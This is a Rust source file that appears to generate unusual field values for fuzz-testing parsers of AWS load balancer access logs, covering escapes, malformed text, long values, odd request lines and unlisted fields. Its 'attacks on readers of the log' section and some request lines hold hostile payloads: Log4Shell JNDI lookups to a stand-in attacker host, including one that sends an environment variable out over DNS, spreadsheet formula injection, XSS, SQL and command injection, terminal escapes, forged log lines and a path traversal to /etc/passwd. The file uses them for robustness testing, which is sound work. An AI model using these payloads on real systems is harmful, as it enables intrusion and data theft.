//! Values that attackers, scanners and broken clients send. Every line with one of these is valid, and an event.

use super::rng::Rng;
use super::text;
use crate::formats::{Decode, Escapes, Field, Format, Quoting, Split};

/// A value that replaces the ordinary value of a field.
pub(super) struct Trick {
    /// The fields that can have it.
    pub(super) apply: Apply,
    value: TrickValue,
}

impl std::fmt::Debug for Trick {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter
            .debug_struct("Trick")
            .field("apply", &self.apply)
            .finish_non_exhaustive()
    }
}

enum TrickValue {
    /// A fixed text.
    Text(&'static str),
    /// A text, followed by another one a number of times.
    Repeated(&'static str, &'static str, usize),
    /// Computed from the time of the event.
    Computed(fn(&mut Rng, u64, &mut Vec<u8>)),
}

/// The fields that can have a trick.
#[derive(Debug, Clone, Copy)]
pub(super) enum Apply {
    /// Quoted text that a client chose, except request lines.
    FreeText,
    /// The same, if a quote is escaped by a backslash and a line break is not escaped.
    BackslashText,
    /// Request lines.
    Request,
    /// Addresses with ports.
    Address,
    /// Quoted lists.
    List,
    /// Lists of quoted parts.
    QuotedParts,
    /// The time of the event.
    EventTime,
    /// Processing times.
    Measured,
    /// The named field.
    Named(&'static str),
}

impl Apply {
    /// Returns whether a field is one of these.
    pub(super) fn to(self, format: &Format, field: &Field) -> bool {
        let text = field.free_text && field.quoting == Quoting::Quoted && field.split == Split::Whole;
        let decodes = |decode| field.columns().first().is_some_and(|column| column.decode == decode);
        match self {
            Self::FreeText => text,
            Self::BackslashText => text && format.escapes == Escapes::BackslashQuote,
            Self::Request => field.split == Split::Request,
            Self::Address => field.split == Split::HostPort,
            Self::List => field.quoting == Quoting::Quoted && decodes(Decode::CommaList),
            Self::QuotedParts => field.quoting == Quoting::QuotedParts,
            Self::EventTime => field.name == format.event_time,
            Self::Measured => decodes(Decode::ProcessingSeconds),
            Self::Named(name) => field.name == name,
        }
    }
}

impl Trick {
    /// Writes the value.
    pub(super) fn write(&self, rng: &mut Rng, time: u64, out: &mut Vec<u8>) {
        match self.value {
            TrickValue::Text(text) => out.extend_from_slice(text.as_bytes()),
            TrickValue::Repeated(first, then, times) => {
                out.extend_from_slice(first.as_bytes());
                for _ in 0..times {
                    out.extend_from_slice(then.as_bytes());
                }
            }
            TrickValue::Computed(make) => make(rng, time, out),
        }
    }
}

const fn text(apply: Apply, value: &'static str) -> Trick {
    Trick {
        apply,
        value: TrickValue::Text(value),
    }
}

const fn agent(value: &'static str) -> Trick {
    text(Apply::FreeText, value)
}

const fn request(value: &'static str) -> Trick {
    text(Apply::Request, value)
}

const fn address(value: &'static str) -> Trick {
    text(Apply::Address, value)
}

const fn named(name: &'static str, value: &'static str) -> Trick {
    text(Apply::Named(name), value)
}

const fn long(apply: Apply, first: &'static str, then: &'static str, times: usize) -> Trick {
    Trick {
        apply,
        value: TrickValue::Repeated(first, then, times),
    }
}

const fn computed(apply: Apply, make: fn(&mut Rng, u64, &mut Vec<u8>)) -> Trick {
    Trick {
        apply,
        value: TrickValue::Computed(make),
    }
}

/// Every trick.
pub(super) static TRICKS: &[Trick] = &[
    // Escapes: quotes and backslashes, UTF-8, the eight-digit form, bytes that are not UTF-8, a client's own backslash.
    agent(r"Scanner \x22quoted\x22 (back\x5Cslash; \x5C\x22)"),
    agent(r"Caf\xC3\xA9-Kasse/1.0 (\xE6\x9D\xB1\xE4\xBA\xAC; \xF0\x9F\x9B\x92)"),
    agent(r"Probe/2.0 \x00000022eight digits\x00000022"),
    agent(r"Latin1 \xFF\xFE\xE9t\xE9/0.9"),
    agent(r"Half a character \xE2\x82"),
    agent(r"Literal \x5Cx41 \x5Cx22 stays"),
    agent(r"Cut in an escape \xE2\x8"),
    agent(r"Not hex \xZZ \x4"),
    agent(""),
    agent(" "),
    agent(r"\x00\x01\x7F nul"),
    // Attacks on readers of the log.
    agent("${jndi:ldap://attacker.example.net:1389/a}"),
    agent("${${lower:j}${upper:n}di:${lower:l}dap://198.51.100.66/x}"),
    agent(r"\x1B[31mred\x1B[0m \x1B]0;title\x07"),
    agent("=cmd|' /C calc'!A0"),
    agent("@SUM(1+1)*cmd|' /C calc'!A0"),
    agent("<script>alert(document.domain)</script>"),
    agent("' OR '1'='1' --"),
    agent("{\\x22message\\x22: \\x22forged\\x22}"),
    agent(r"first line\x0D\x0A203.0.113.99 - - forged line"),
    agent("{{7*7}} %s%n%x $(id) `id` ;id|id"),
    // Lengths: AWS truncates a user agent to 8 KB, and each byte may be escaped.
    long(Apply::FreeText, "Long/1.0 ", "0123456789abcde ", 512),
    long(Apply::FreeText, "Long/2.0 ", r"\xE2\x82\xAC", 2730),
    // Classic: quotes after a backslash, raw line breaks.
    text(Apply::BackslashText, r#"Till \"front\" (model \"X\")"#),
    text(Apply::BackslashText, r#"\"all quoted\""#),
    text(Apply::BackslashText, "Broken Client/1.0 (first line\nsecond line)"),
    text(Apply::BackslashText, "Broken Client/1.1\n\n(behind a blank line)\nend"),
    // Request lines of every observed form.
    request("- http://www.example.com:80- -"),
    request("- http://www.example.com:8080- "),
    request("- http://www.example.com:80-/ "),
    request("GET http://www.example.com:80/ HTTP/1.0 "),
    request("GET https://www.example.com:443/path -"),
    request("GET https://www.example.com HTTP/2.0"),
    request("GET https://www.example.com:443 HTTP/1.1"),
    request("SSTP_DUPLEX_POST https://vpn.example.com:443/sra_{0BADC0DE-0000-4000-8000-000000000000}/ HTTP/1.1"),
    request("--location https://www.example.com:443/ HTTP/1.1"),
    request("GET http://two words [and] a|pipe:80/ HTTP/1.1"),
    request("GET https://[2001:db8::51]:443/index.html HTTP/1.1"),
    request("GET http://GET http://www.example.com/ HTTP/1.1:80/ HTTP/1.1"),
    request("GET https://www.example.com:443/a path/with spaces?and=more of them HTTP/1.1"),
    request(r"GET https://www.example.com:443/quote\x22in\x22path?q=\x5C HTTP/1.1"),
    request(r"GET https://www.example.com:443/caf\xC3\xA9 HTTP/1.1"),
    request("GET https://www.example.com:443/page?next=https://other.example.com:8443/#fragment HTTP/1.1"),
    request("GET https://www.example.com:443/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1"),
    request("GET https://www.example.com:443/?x=${jndi:dns://attacker.example.net/${env:HOME}} HTTP/1.1"),
    request("GET https://www.example.com:443//double//slash?a=1?b=2 HTTP/1.1"),
    request("CONNECT https://www.example.com:443- HTTP/1.1"),
    request("GET https://user:secret@www.example.com:443/ HTTP/1.1"),
    request("PRI http://192.0.2.80:80* HTTP/2.0"),
    request("-"),
    request(r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03"),
    long(
        Apply::Request,
        "GET https://www.example.com:443/long?",
        "key=0123456789a&",
        1020,
    ),
    // Addresses: with brackets, masked, invalid, IPv4 within IPv6.
    address("[2001:db8::1]:443"),
    address("2001:db8::1:52044"),
    address("2001:db8:0:12:abcd:0:0:1:50718"),
    address("::ffff:192.0.2.33:51000"),
    address("X.X.X.X:40122"),
    address("192.0.2.xxx:1234"),
    address("192.0.2.33.44:40860"),
    address("unknown:0"),
    text(Apply::List, ""),
    text(Apply::List, "waf,teleport,forward"),
    // Lists of protocols: truncated to 256 bytes, without the last quote.
    long(Apply::QuotedParts, "\"h2\",\"http/1.1\",\"", "x-0123456789-", 18),
    text(Apply::QuotedParts, "\"h2\",\"http/1.1\",\"spdy/3"),
    text(Apply::QuotedParts, "\"\""),
    // Times: with none to nine decimals, with and without a zone.
    computed(Apply::EventTime, |_, time, out| text::time_of_seconds(out, time)),
    computed(Apply::EventTime, |rng, time, out| {
        text::time_of_seconds(out, time);
        out.push(b'.');
        let decimals = rng.range(1, 9);
        text::padded(out, rng.below(1_000_000_000), u32::try_from(decimals).unwrap_or(1));
        if rng.chance(500) {
            out.push(b'Z');
        }
    }),
    text(Apply::Measured, "0.0014831542968750"),
    text(Apply::Measured, "1.5E-5"),
    // Values that AWS's documentation does not list yet.
    named("type", "h3"),
    named("ssl_cipher", "(NONE)"),
    named("ssl_protocol", "TLSv1.4"),
    named("tls_protocol", "TLSv1.4"),
    named("tls_protocol_version", "tlsv14"),
    named("tls_cipher", "TLS_AES_128_CCM_8_SHA256"),
    named("tls_verify_status", "Failed:SomethingNew"),
    named("matched_rule_priority", "-1"),
    named("error_reason", "SomethingNewFailed"),
    named("classification", "Peculiar"),
    named("status", "UNSURE"),
    named("reason_code", "SomethingNew"),
    named("target_addr", "2001:db8:0:12::20:8080"),
    named(
        "target_addr",
        "arn:aws:lambda:us-east-1:123456789012:function:orders-fn:live",
    ),
    named("incoming_tls_alert", "120"),
    named("domain_name", "*"),
    named("domain_name", "192.0.2.80:443"),
    named("domain_name", "under_score.Example.COM."),
    computed(Apply::Named("domain_name"), |_, _, out| {
        out.extend_from_slice(b"xn--bcher-kva.example.com");
    }),
    named(
        "trace_id",
        r"Root=1-00000000-000000000000000000000000;note=\x22mine\x22",
    ),
    named(
        "trace_id",
        "Self=1-68e4f1a2-0a1b2c3d4e5f60718293a4b5;Root=mine;Parent=-;Sampled=?",
    ),
    named(
        "redirect_url",
        r"https://www.example.com:443/a path with spaces?q=\x22x\x22",
    ),
    named("transformed_uri", r"/caf\xC3\xA9 list?q=\x22x\x22"),
    named("target:port_list", "10.0.1.20:8080 10.0.2.33:8080"),
    named("target_status_code_list", "502 200"),
    named(
        "leaf_client_cert_subject",
        r"CN=caf\xC3\xA9 \x22West\x22,O=Example\x5C, Inc.,L=S\xC3\xA3o Paulo",
    ),
];
